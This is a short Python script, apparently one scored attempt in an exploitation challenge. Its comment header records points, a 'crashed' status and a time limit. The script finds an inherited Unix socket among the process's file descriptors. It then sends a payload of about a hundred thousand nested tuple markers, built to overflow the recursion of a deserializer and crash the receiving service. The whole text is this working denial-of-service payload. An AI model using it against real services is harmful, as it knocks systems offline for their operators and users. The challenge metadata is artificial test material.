# Tries: send a value that is nested a hundred thousand deep
# Deserves: 20
# Status: crashed
# Within: 25

# %%
import os
import socket


def line():
    for number in range(3, 64):
        try:
            found = socket.socket(fileno=os.dup(number))
            if found.family == socket.AF_UNIX:
                return found
        except OSError:
            pass


body = b"(\x01\x00\x00\x00" * 100_000 + b"n"
line().send(len(body).to_bytes(4, "little") + body)
